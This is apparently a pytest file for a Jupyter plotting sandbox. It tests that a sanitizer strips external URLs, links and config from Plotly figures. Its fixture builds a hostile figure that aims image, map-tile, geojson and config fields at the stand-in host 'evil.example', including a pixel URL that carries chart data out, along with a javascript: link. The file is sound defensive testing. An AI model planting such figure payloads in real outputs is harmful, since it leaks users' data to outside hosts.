"""Plotly figures from the child reach the user's browser with nothing that fetches or links."""

from __future__ import annotations

import json

import plotly.express as px
import plotly.graph_objects as go
import plotly.io as pio
import pytest

from viscoder_jupyter import runtime
from viscoder_jupyter.child.executor import ChildKernel
from viscoder_jupyter.child.plotly_safety import safe_figure

SITE = "evil.example"  # where the hostile figure sends the data, or the user
HOSTILE = f"""import plotly.graph_objects as go
from IPython.display import display
fig = go.Figure(go.Bar(x=["Oslo", "Lima"], y=[3, 5], name='<a href="https://{SITE}/x">sales</a>',
                       hovertemplate='%{{x}} <a href="javascript:alert(1)">more</a>'))
fig.update_layout(
    title='<span style="cursor: url(https://{SITE}/c.png), auto">Sales</span> <a href="https://{SITE}/">by city</a>',
    images=[dict(source="https://{SITE}/pixel.png?data=Oslo,3;Lima,5", xref="paper", yref="paper", x=0, y=1,
                 sizex=0.1, sizey=0.1)],
    map=dict(style="https://{SITE}/style.json",
             layers=[dict(sourcetype="raster", source=["https://{SITE}/tiles/{{z}}/{{x}}/{{y}}.png"])]),
    updatemenus=[dict(buttons=[dict(method="relayout", label="go",
                                    args=["images[0].source", "https://{SITE}/on-click.png"])])],
)
payload = fig.to_plotly_json()
# What plotly would not let through, written by hand: an older plotly.js in the browser still draws it.
payload["layout"]["mapbox"] = {{"style": {{"version": 8, "sources": {{"t": {{"type": "raster", "tiles": ["https://{SITE}/t"]}}}}}}}}
payload["data"].append({{"type": "choroplethmapbox", "geojson": "https://{SITE}/areas.json", "locations": ["a"]}})
payload["config"] = {{"topojsonURL": "https://{SITE}/topo/", "plotlyServerURL": "https://{SITE}", "showLink": True}}
display({{"application/vnd.plotly.v1+json": payload, "text/plain": "figure"}}, raw=True)
"""


def wait(coro, timeout: float = 120):
    return runtime.submit(coro).result(timeout)


@pytest.fixture(scope="module")
def kernel():
    k = ChildKernel()  # sandboxed where bwrap works: what reaches the browser is the same either way
    yield k
    wait(k.async_shutdown())


def test_a_hostile_figure_reaches_the_parent_without_urls_links_or_config(kernel):
    out = wait(kernel.async_run(HOSTILE, 60))
    assert out.error is None, out.error
    (figure,) = out.plotly_json
    assert SITE not in json.dumps(figure) and "javascript:" not in json.dumps(figure)
    assert "config" not in figure
    bar, areas = figure["data"]
    assert bar["x"] == ["Oslo", "Lima"] and bar["name"] == "sales"  # the data and the words stay
    assert areas["locations"] == ["a"] and "geojson" not in areas
    assert "Sales" in figure["layout"]["title"]["text"] and "by city" in figure["layout"]["title"]["text"]
    assert figure["layout"]["images"][0]["sizex"] == 0.1 and "source" not in figure["layout"]["images"][0]


def test_a_plain_figure_comes_through_unchanged(kernel):
    out = wait(
        kernel.async_run(
            "import plotly.express as px, pandas as pd\n"
            "px.bar(pd.DataFrame({'city': ['Oslo', 'Lima'], 'sales': [3, 5]}), x='city', y='sales').show()",
            60,
        )
    )
    assert out.error is None
    (figure,) = out.plotly_json
    assert figure["data"][0]["x"] == ["Oslo", "Lima"] and figure["layout"]["template"]["layout"]


@pytest.mark.parametrize(
    "figure",
    [
        px.bar(x=["a", "b"], y=[1, 2], title="<b>Sales</b> <i>by</i> city<br>2024", text=["<sup>1</sup>", "x"]),
        px.scatter_map(lat=[59.9], lon=[10.7], map_style="open-street-map"),
        px.imshow([[1, 2], [3, 4]]),
        go.Figure(go.Image(source="data:image/png;base64,iVBORw0KGgo=")),
        go.Figure(layout=dict(font=dict(style="italic"), images=[dict(source="data:image/png;base64,AAAA")])),
    ],
    ids=["bar-with-markup", "named-map-style", "heatmap", "inline-image-trace", "inline-layout-image"],
)
def test_what_fetches_nothing_is_kept_as_it_is(figure):
    payload = pio.renderers["plotly_mimetype"].to_mimebundle(figure.to_dict())["application/vnd.plotly.v1+json"]
    payload = json.loads(json.dumps(payload))
    assert safe_figure(payload) == payload


def test_a_figure_nested_past_reason_is_dropped_not_a_crash():
    deep: dict = {}
    inner = deep
    for _ in range(10_000):
        inner["a"] = {}
        inner = inner["a"]
    assert safe_figure({"data": [], "layout": deep}) == {}
    assert safe_figure(["not", "a", "figure"]) == {}
